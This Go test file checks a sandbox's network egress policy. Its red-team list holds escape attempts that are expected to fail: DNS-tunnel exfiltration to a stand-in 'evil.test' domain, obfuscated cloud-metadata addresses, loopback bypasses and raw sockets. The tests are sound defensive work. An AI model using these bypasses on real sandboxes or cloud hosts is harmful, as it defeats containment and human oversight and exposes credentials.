package local_test

import (
	"errors"
	"fmt"
	"io"
	"net"
	"net/netip"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"sync/atomic"
	"syscall"
	"testing"
	"time"

	"golang.org/x/sys/unix"

	"agentenv.internal/agentenv/internal/guest"
	"agentenv.internal/agentenv/internal/sandbox"
)

// needTUN skips where boxes can have no network.
func needTUN(t *testing.T) {
	t.Helper()
	f, err := os.OpenFile(guest.TUNDevice, os.O_RDWR, 0)
	if err != nil {
		t.Skipf("boxes can have no network here: %v", err)
	}
	f.Close()
}

// greeter is a server of the host that counts its visitors.
func greeter(t *testing.T, addr string) (port uint16, visitors *atomic.Int64) {
	t.Helper()
	l, err := net.Listen("tcp", addr)
	if err != nil {
		t.Fatal(err)
	}
	visitors = &atomic.Int64{}
	done := make(chan struct{})
	go func() {
		defer close(done)
		for {
			c, err := l.Accept()
			if err != nil {
				return
			}
			visitors.Add(1)
			_, _ = io.WriteString(c, "welcome\n")
			c.Close()
		}
	}()
	t.Cleanup(func() {
		l.Close()
		<-done
	})
	return uint16(l.Addr().(*net.TCPAddr).Port), visitors
}

func hostLoopback(ports ...uint16) sandbox.Spec {
	return sandbox.Spec{Tied: true, Network: sandbox.NetAllow, Egress: sandbox.Egress{
		Hosts: []string{"localhost"}, CIDRs: []netip.Prefix{netip.MustParsePrefix("127.0.0.0/8"), netip.MustParsePrefix("::1/128")}, Ports: ports,
	}}
}

// status runs a script and answers what it wrote and whether it ended well.
func status(t *testing.T, box guest.Box, script string) (string, bool) {
	t.Helper()
	r, err := guest.Output(t.Context(), box, guest.Command{Argv: []string{"bash", "-c", script}, Timeout: 20 * time.Second}, guest.Limits{})
	if err != nil {
		t.Fatal(err)
	}
	return string(r.Stdout.Bytes()) + string(r.Stderr.Bytes()), r.Exit.OK()
}

// dnsQuery sends one TXT question by UDP, and writes the answer's code.
const dnsQuery = `perl -MSocket -e '
socket(S, PF_INET, SOCK_DGRAM, 17) or die "socket: $!"; connect(S, sockaddr_in(53, inet_aton($ARGV[0]))) or die "connect: $!";
send(S, pack("n6", 7, 256, 1, 0, 0, 0).join("", map { pack("C/a*", $_) } split(/\./, $ARGV[1]))."\0".pack("n2", 16, 1), 0) or die "send: $!";
$r=""; vec($r, fileno(S), 1) = 1; select($r, undef, undef, 1) or die "silence"; defined recv(S, $b, 512, 0) or die "recv: $!"; print unpack("x3C", $b) & 15' `

// networkAttempts are ways past a policy that a program in a box may try: each has to fail. %d is a port of the host's loopback that no
// policy opens, %s an address of the host itself.
var networkAttempts = []struct{ name, script string }{
	{"past the list by IP", "cat < /dev/tcp/1.1.1.1/443"},
	{"past the list by IPv6", "cat < /dev/tcp/2606:4700:4700::1111/443"},
	{"another resolver by UDP", dnsQuery + "8.8.8.8 secret.evil.test"},
	{"another resolver by TCP", "cat < /dev/tcp/8.8.8.8/53"},
	{"a DNS tunnel through the own resolver", "test $(" + dnsQuery + "10.0.2.3 c2VjcmV0.evil.test) = 0"},
	{"a name that is not allowed", "getent ahosts evil.test"},
	{"a raw socket", "perl -MSocket -e 'socket(S, PF_INET, SOCK_RAW, 1) or die $!'"},
	{"a raw IPv6 socket", "perl -MSocket -e 'socket(S, 10, SOCK_RAW, 58) or die $!'"},
	{"a packet socket", "perl -MSocket -e 'socket(S, 17, SOCK_RAW, 0x300) or die $!'"},
	{"a ping socket", "perl -MSocket -e 'socket(S, PF_INET, SOCK_DGRAM, 1) or die $!'"},
	{"a TUN of its own", "exec 3<> /dev/net/tun"},
	{"the interface taken down", `perl -MSocket -e 'socket(S, PF_INET, SOCK_DGRAM, 0) or die; ioctl(S, 0x8914, pack("a16s", "eth0", 0)) or die $!'`},
	{"another address for itself", `perl -MSocket -e 'socket(S, PF_INET, SOCK_DGRAM, 0) or die; ioctl(S, 0x8916, pack("a16a16", "eth0", sockaddr_in(0, inet_aton("10.0.2.9")))) or die $!'`},
	{"the metadata address", "cat < /dev/tcp/169.254.169.254/80"},
	{"the metadata address as a number", "curl -s -m 5 http://2852039166/"},
	{"the metadata address in IPv6", "cat < /dev/tcp/::ffff:169.254.169.254/80"},
	{"the metadata address of IPv6", "cat < /dev/tcp/fd00:ec2::254/80"},
	{"the host's loopback by the gateway", "cat < /dev/tcp/10.0.2.2/%d"},
	{"the host's loopback by the gateway in IPv6", "cat < /dev/tcp/fd00::2/%d"},
	{"the host's loopback by its number", "cat < /dev/tcp/127.0.0.1/%d"},
	{"the host's loopback by 6to4", "cat < /dev/tcp/2002:7f00:1::1/%d"},
	{"the host's loopback by NAT64", "cat < /dev/tcp/64:ff9b::127.0.0.1/%d"},
	{"the host's loopback by any address", "cat < /dev/tcp/0.0.0.0/%d"},
	{"the host by its own address", "cat < /dev/tcp/%s/%d"},
	{"the resolver's other ports", "cat < /dev/tcp/10.0.2.3/80"},
	{"a private neighbour", "cat < /dev/tcp/192.168.0.1/80"},
	{"a multicast group", dnsQuery + "224.0.0.251 any.local"},
	{"a broadcast", dnsQuery + "10.0.2.255 any.local"},
	{"a fake address that stands for nothing", "cat < /dev/tcp/198.18.200.1/443"},
}

func TestNetworkRedTeam(t *testing.T) {
	needTUN(t)
	open443, _ := greeter(t, "127.0.0.1:0")
	secret, visitors := greeter(t, "0.0.0.0:0")
	p := open(t)
	all := sandbox.Spec{Tied: true, Network: sandbox.NetAllowAll}
	for name, spec := range map[string]sandbox.Spec{"allowlist": hostLoopback(open443), "allow_all": all} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			info, box := create(t, p, spec)
			for _, a := range networkAttempts {
				if name == "allow_all" && (strings.HasPrefix(a.name, "past the list") || strings.HasPrefix(a.name, "another resolver") || strings.Contains(a.name, "tunnel")) {
					continue // public addresses are what it is for
				}
				script := a.script
				switch strings.Count(script, "%") {
				case 1:
					script = fmt.Sprintf(script, secret)
				case 2:
					script = fmt.Sprintf(script, ownAddress(t), secret)
				}
				if out, ok := status(t, box, script); ok {
					t.Errorf("%s: it worked: %s", a.name, out)
				}
			}
			if n := visitors.Load(); n != 0 {
				t.Errorf("the host's server had %d visitors", n)
			}
			list, err := p.Blocked(t.Context(), info.ID)
			if err != nil || len(list) < 8 {
				t.Errorf("blocked: %+v, %v", list, err)
			}
			for _, b := range list {
				if b.Addr == "169.254.169.254" && b.Why != "" {
					return
				}
			}
			t.Errorf("the metadata address is not in the log: %+v", list)
		})
	}
}

// ownAddress is one of the host's own, other than its loopback.
func ownAddress(t *testing.T) string {
	t.Helper()
	addrs, err := net.InterfaceAddrs()
	if err != nil {
		t.Fatal(err)
	}
	for _, a := range addrs {
		if p, err := netip.ParsePrefix(a.String()); err == nil && p.Addr().Is4() && !p.Addr().IsLoopback() {
			return p.Addr().String()
		}
	}
	return "127.0.0.1"
}

// TestNetworkReaches: what the policy opens works, by address, by name, over both families and in both directions.
func TestNetworkReaches(t *testing.T) {
	needTUN(t)
	port, visitors := greeter(t, "127.0.0.1:0")
	p := open(t)
	info, box := create(t, p, hostLoopback(port))
	if info.Network != sandbox.NetAllow || len(info.Egress.CIDRs) != 2 {
		t.Errorf("recorded: %s %+v", info.Network, info.Egress)
	}
	for name, script := range map[string]string{
		"the gateway": "cat < /dev/tcp/10.0.2.2/%d", "its IPv4 in IPv6": "cat < /dev/tcp/::ffff:10.0.2.2/%d",
		"a name":         `a=$(getent ahostsv4 localhost. | head -1 | cut -d" " -f1); case $a in 198.18.*) ;; *) exit 9;; esac; cat < /dev/tcp/$a/%d`,
		"a name in IPv6": `a=$(getent ahostsv6 localhost. | head -1 | cut -d" " -f1); case $a in fd00:c612:*) ;; *) exit 9;; esac; cat < /dev/tcp/$a/%d`,
	} {
		if out, ok := status(t, box, fmt.Sprintf(script, port)); !ok || out != "welcome\n" {
			t.Errorf("%s: %q", name, out)
		}
	}
	if n := visitors.Load(); n != 4 {
		t.Errorf("%d visitors", n)
	}
	if out, ok := status(t, box, "cat /etc/resolv.conf"); !ok || !strings.Contains(out, "nameserver 10.0.2.3") {
		t.Errorf("resolv.conf: %q", out)
	}
	// A packet that is refused is told of at once.
	if out, ok := status(t, box, dnsQuery+"8.8.8.8 a.test"); ok || strings.Contains(out, "silence") {
		t.Errorf("a refused packet: %q", out)
	}
}

// hostOf is the network host of a box, by its lock; 0: there is none.
func hostOf(t *testing.T, root, id string) int {
	t.Helper()
	f, err := os.OpenFile(filepath.Join(root, "boxes", id+".net"), os.O_RDWR, 0)
	if errors.Is(err, os.ErrNotExist) {
		return 0
	}
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	l := unix.Flock_t{Type: unix.F_WRLCK}
	if err := unix.FcntlFlock(f.Fd(), unix.F_GETLK, &l); err != nil {
		t.Fatal(err)
	}
	if l.Type == unix.F_UNLCK {
		return 0
	}
	return int(l.Pid)
}

// TestNetworkHostLife: a network host ends with its box however that ends, keeps none alive, and a box outlives it without a network.
func TestNetworkHostLife(t *testing.T) { //nolint:tparallel // its parts count what one host leaves
	t.Parallel()
	needTUN(t)
	port, _ := greeter(t, "127.0.0.1:0")
	root := stateRoot(t)
	p := openAt(t, root)
	greet := fmt.Sprintf("cat < /dev/tcp/10.0.2.2/%d", port)
	gone := func(pid int) func() bool { return func() bool { return alive([]int{pid}) == 0 } }

	t.Run("PID 1 is killed", func(t *testing.T) {
		info, _ := create(t, p, hostLoopback())
		host := hostOf(t, root, info.ID)
		if host == 0 {
			t.Fatal("no network host")
		}
		if err := syscall.Kill(pid1Of(t, root, info.ID), syscall.SIGKILL); err != nil {
			t.Fatal(err)
		}
		within(t, hang, "the network host is gone", gone(host))
	})
	t.Run("the host is killed", func(t *testing.T) {
		info, box := create(t, p, hostLoopback())
		host := hostOf(t, root, info.ID)
		if err := syscall.Kill(host, syscall.SIGKILL); err != nil {
			t.Fatal(err)
		}
		within(t, hang, "the network host is gone", gone(host))
		// What asks while the interface goes waits for an answer for long.
		within(t, hang, "the box's interface is gone", func() bool { return sh(t, box, "grep -c eth0 /proc/net/dev || true") == "0\n" })
		if out, ok := status(t, box, greet); ok {
			t.Errorf("the box still has a network: %s", out)
		}
		if got := sh(t, box, "echo here"); got != "here\n" {
			t.Errorf("the box: %q", got)
		}
	})
	t.Run("the host is stopped", func(t *testing.T) {
		info, _ := create(t, p, hostLoopback())
		host := hostOf(t, root, info.ID)
		if err := syscall.Kill(host, syscall.SIGSTOP); err != nil {
			t.Fatal(err)
		}
		if err := p.Destroy(t.Context(), info.ID); err != nil {
			t.Fatal(err)
		}
		within(t, hang, "the network host is gone", gone(host))
	})
	t.Run("the owner is killed", func(t *testing.T) {
		o := startOwner(t, role{StateRoot: root, Specs: []sandbox.Spec{hostLoopback()}})
		id := o.ids(t, 1)[0]
		host := hostOf(t, root, id)
		if host == 0 {
			t.Fatal("no network host")
		}
		o.kill()
		within(t, hang, "the network host is gone", gone(host))
		if _, err := p.Sweep(t.Context()); err != nil {
			t.Error(err)
		}
		nothingLeft(t, root, []string{id})
	})
	t.Run("its maker leaves", func(t *testing.T) {
		spec := hostLoopback()
		spec.Tied = false
		o := startOwner(t, role{StateRoot: root, Specs: []sandbox.Spec{spec}, Leave: true})
		id := o.ids(t, 1)[0]
		if err := o.cmd.Wait(); err != nil {
			t.Fatal(err)
		}
		box, err := p.Connect(t.Context(), id)
		if err != nil {
			t.Fatal(err)
		}
		defer box.Close()
		if out, ok := status(t, box, greet); !ok || out != "welcome\n" {
			t.Errorf("after its maker left: %q", out)
		}
		host := hostOf(t, root, id)
		if err := p.Destroy(t.Context(), id); err != nil {
			t.Fatal(err)
		}
		within(t, hang, "the network host is gone", gone(host))
		nothingLeft(t, root, []string{id})
	})
	t.Run("the lease ends", func(t *testing.T) {
		spec := hostLoopback()
		spec.Tied, spec.Lease = false, 300*time.Millisecond
		info, err := p.Create(t.Context(), spec)
		if err != nil {
			t.Fatal(err)
		}
		host := hostOf(t, root, info.ID)
		within(t, hang, "the network host is gone", gone(host))
		if err := p.Destroy(t.Context(), info.ID); err != nil {
			t.Fatal(err)
		}
	})
	t.Run("none without a network", func(t *testing.T) {
		info, _ := create(t, p, sandbox.Spec{Tied: true})
		if _, err := os.Stat(filepath.Join(root, "boxes", info.ID+".net")); !errors.Is(err, os.ErrNotExist) {
			t.Errorf("a box without a network has its log: %v", err)
		}
	})
}

// TestPublishedPortTaken: a port that somebody has is told of, and nothing is left.
func TestPublishedPortTaken(t *testing.T) {
	taken, _ := greeter(t, "127.0.0.1:0")
	p := open(t)
	_, err := p.Create(t.Context(), sandbox.Spec{Tied: true, Publish: []sandbox.Port{{Box: 80, Host: taken}}})
	if err == nil || !strings.Contains(err.Error(), "publish port 80") || !strings.Contains(err.Error(), strconv.Itoa(int(taken))) {
		t.Errorf("%v", err)
	}
	if infos, err := p.List(t.Context()); err != nil || len(infos) != 0 {
		t.Errorf("left: %v %v", infos, err)
	}
}

// TestNetworkAsAnUnprivilegedUser runs the tests of the network as an ordinary user, whom distributions let open the device; where this
// machine doesn't, a device beside the machine's stands in its place for that process alone.
func TestNetworkAsAnUnprivilegedUser(t *testing.T) {
	t.Parallel()
	if os.Geteuid() != 0 {
		t.Skip("this is the unprivileged run")
	}
	needTUN(t)
	home := userHome(t)
	dev := t.TempDir() // what is mounted there is that process's own
	script := `mount -t tmpfs -o mode=0755 tmpfs "$1" && mknod -m 0666 "$1/tun" c 10 200 && mount --bind "$1/tun" ` + guest.TUNDevice + ` &&
exec setpriv --reuid="$2" --regid="$2" --clear-groups /proc/self/fd/3 -test.run='^TestNetwork|^TestSuite$/Networks|^TestSuite$/Published' -test.timeout=100s`
	cmd := exec.CommandContext(t.Context(), "sh", "-c", script, "sh", dev, strconv.Itoa(testUser))
	self, err := os.Open("/proc/self/exe")
	if err != nil {
		t.Fatal(err)
	}
	defer self.Close()
	cmd.ExtraFiles = []*os.File{self}
	cmd.Dir = home
	cmd.Env = []string{"HOME=" + home, "TMPDIR=" + home, "PATH=/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin"}
	cmd.SysProcAttr = &syscall.SysProcAttr{Unshareflags: syscall.CLONE_NEWNS}
	if out, err := cmd.CombinedOutput(); err != nil {
		t.Errorf("as uid %d: %v\n%s", testUser, err, out)
	}
}
